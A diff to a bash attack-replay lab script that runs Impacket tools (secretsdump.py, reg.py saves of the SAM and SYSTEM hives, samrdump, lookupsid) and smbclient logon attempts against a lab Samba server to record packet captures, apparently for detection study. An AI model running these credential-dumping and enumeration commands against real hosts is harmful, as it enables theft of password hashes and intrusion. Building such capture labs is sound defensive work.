@@ -1,11 +1,12 @@
 # Techniques of the attack replay lab, sourced by run-lab.sh. Each function
-# technique_<name> runs the tools of one capture from the attacker namespace;
-# <name> with "_" turned into "-" is the capture's file name. A technique
+# technique_<name> runs the tools of one capture from the attacker namespace,
+# and <name> with "_" turned into "-" is the capture's file name. A technique
 # returns non-zero when a tool fails, and the lab keeps the capture anyway.
 # shellcheck shell=bash
 
 # Capture names in the order the lab runs them. encrypted-session-smb311 comes
 # last because it restarts smbd with encryption required.
+# shellcheck disable=SC2034 # read by run-lab.sh
 LAB_TECHNIQUES=(
     copy-to-c-share-smb21
     copy-to-admin-share-smb21
@@ -23,7 +24,9 @@ LAB_TECHNIQUES=(
     hive-save-impacket
     secretsdump-impacket
     sam-enum-impacket
+    share-session-enum-tcp-impacket
     lsa-lookupsid-impacket
+    logon-failure-smb311
     encrypted-session-smb311
 )
 
@@ -143,24 +146,38 @@ technique_registry_write_impacket() {
     impacket reg.py query -keyName 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run'
 }
 
-# Samba 4.17 rejects BaseRegSaveKey with ERROR_BAD_PATHNAME (its winreg
-# service cannot map the path to a share), so these captures hold the
-# requests with key and file name and Samba's rejection.
+# Samba 4.17 turns C:\Windows\Temp into /Windows/Temp and rejects
+# BaseRegSaveKey with ERROR_BAD_PATHNAME because no share's path contains it.
+# The capture still contains each request with its key and file name.
 technique_hive_save_impacket() {
     impacket reg.py save -keyName 'HKLM\SAM' -o 'C:\Windows\Temp'
     impacket reg.py save -keyName 'HKLM\SYSTEM' -o 'C:\Windows\Temp'
 }
 
-# secretsdump.py checks RemoteRegistry over svcctl, then reads the boot key
-# class names under HKLM\SYSTEM\CurrentControlSet\Control\Lsa. Samba 4.17
-# faults the QueryInfoKey request Impacket sends (nca_s_fault_ndr), so the
-# tool falls back to SAMR and stops before it saves any hive.
+# secretsdump.py checks RemoteRegistry over svcctl, reads the boot key class
+# names under HKLM\SYSTEM\CurrentControlSet\Control\Lsa, saves the SAM and
+# SECURITY hives to System32 with BaseRegSaveKey and reads them back over
+# ADMIN$. Samba 4.17 faults Impacket's QueryInfoKey and rejects the save, so
+# for this technique only the lab points the winreg pipe at the responder.
 technique_secretsdump_impacket() {
-    impacket secretsdump.py
+    local np=$WORK_DIR/ncalrpc/np status=0
+    mv "$np/winreg" "$np/winreg.samba"
+    mv "$np/winreg.lab" "$np/winreg"
+    impacket secretsdump.py || status=$?
+    mv "$np/winreg" "$np/winreg.lab"
+    mv "$np/winreg.samba" "$np/winreg"
+    return $status
 }
 
 technique_sam_enum_impacket() {
     impacket samrdump.py
+}
+
+# The same srvsvc calls over ncacn_ip_tcp: an endpoint mapper lookup on TCP
+# 135, then a signed session on samba-dcerpcd's dynamic port.
+technique_share_session_enum_tcp_impacket() {
+    in_attacker timeout -k 5 "$TOOL_TIMEOUT" "$PYTHON" "$LAB_DIR/srvsvc-enum.py" --tcp \
+        "$LAB_DOMAIN/$LAB_USER:$LAB_PASSWORD@$SERVER_ADDR"
 }
 
 # lookupsid.py stops at LsarQueryInformationPolicy2, which a standalone Samba
@@ -171,6 +188,16 @@ technique_lsa_lookupsid_impacket() {
     in_attacker timeout -k 5 "$TOOL_TIMEOUT" rpcclient -s "$WORK_DIR/client.conf" \
         -U "$LAB_DOMAIN\\$LAB_USER%$LAB_PASSWORD" \
         -c 'lsaquery; lookupnames Administrator; lookupsids S-1-5-32-544 S-1-1-0' "$SERVER_ADDR"
+}
+
+# Two rejected logons: a wrong password for Administrator, then an unknown
+# account. Both end in STATUS_LOGON_FAILURE, which smbclient reports as an
+# error, so the technique's own status is ignored.
+technique_logon_failure_smb311() {
+    in_attacker timeout -k 5 "$TOOL_TIMEOUT" smbclient -s "$WORK_DIR/client.conf" \
+        "//$SERVER_ADDR/C\$" -U "$LAB_DOMAIN\\$LAB_USER%Wrong-Passw0rd" -m SMB3_11 -c 'ls' || true
+    in_attacker timeout -k 5 "$TOOL_TIMEOUT" smbclient -s "$WORK_DIR/client.conf" \
+        "//$SERVER_ADDR/C\$" -U "$LAB_DOMAIN\\backup%Lab-Passw0rd1" -m SMB3_11 -c 'ls' || true
 }
 
 technique_encrypted_session_smb311() {
